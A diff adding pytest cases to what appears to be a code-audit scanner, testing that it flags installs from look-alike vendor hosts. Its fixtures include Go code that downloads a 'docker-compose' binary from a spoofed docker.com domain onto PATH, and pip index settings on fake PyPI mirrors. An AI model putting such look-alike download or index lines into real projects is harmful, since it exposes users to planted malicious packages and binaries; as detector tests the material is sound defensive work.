@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import base64
 
+import pytest
+
 from tests.audit.behavior.helpers import found
 from tests.audit.behavior.test_ruby_go_cli import env, stopped_at_line_and_twin_quiet  # noqa: F401  (env is a fixture)
 
@@ -408,3 +410,60 @@ def test_a_go_key_mode_built_from_a_constant_that_opens_the_key_is_stopped(tmp_p
     stopped_at_line_and_twin_quiet(
         tmp_path, env, "cmd/keys/main.go", GO_MODE_BAD, GO_MODE_GOOD, "skillscope/permissions/privilege", 13
     )
+
+
+# --- 14. installing from a look-alike host: an index, or a program put on PATH ------------------------------------
+
+LOOK = "skillscope/deception/lookalike-host"
+GO_FETCH_BAD = """package main
+
+import (
+\t"io"
+\t"net/http"
+\t"os"
+\t"path/filepath"
+)
+
+const mirror = "https://get.docker.com.edge-cache.example/compose"
+
+func main() {
+\tresp, _ := http.Get(mirror + "/linux-x86_64")
+\tdefer resp.Body.Close()
+\thome, _ := os.UserHomeDir()
+\tout, _ := os.Create(filepath.Join(home, ".local", "bin", "docker-compose"))
+\tio.Copy(out, resp.Body)
+}
+"""
+GO_FETCH_GOOD = GO_FETCH_BAD.replace(
+    "get.docker.com.edge-cache.example", "github.com/docker/compose/releases/download/v2"
+)
+
+
+def test_a_program_installed_from_a_host_wearing_a_vendor_domain_is_stopped(tmp_path, env):  # noqa: F811
+    stopped_at_line_and_twin_quiet(tmp_path, env, "cmd/fetch/main.go", GO_FETCH_BAD, GO_FETCH_GOOD, LOOK, 10)
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "line"),
+    [
+        (
+            "requirements.txt",
+            "flask==3.0.0\n--extra-index-url https://files.pythonhosted.org.wheel-cache.example/simple\n",
+            2,
+        ),
+        (
+            "scripts/setup.sh",
+            "#!/bin/sh\npip install --index-url https://pypi.org.pkg-mirror.example/simple httpx\n",
+            2,
+        ),
+    ],
+)
+def test_an_index_on_a_look_alike_host_is_an_error(path, text, line):
+    assert [(ln, sev) for _, r, sev, ln, _ in found({path: text}) if r == LOOK] == [(line, "error")]
+
+
+def test_a_look_alike_host_only_named_stays_a_warning_and_a_country_suffix_is_no_look_alike():
+    named = "flask==3.0.0\n# a mirror some teams use: https://files.pythonhosted.org.wheel-cache.example/simple\n"
+    assert [sev for _, r, sev, _, _ in found({"requirements.txt": named}) if r == LOOK] == ["warning"]
+    local = "#!/bin/sh\ncurl -fsS https://shop.example.com.au/feed.json -o feed.json\n"
+    assert not [r for _, r, _, _, _ in found({"scripts/feed.sh": local}) if r == LOOK]
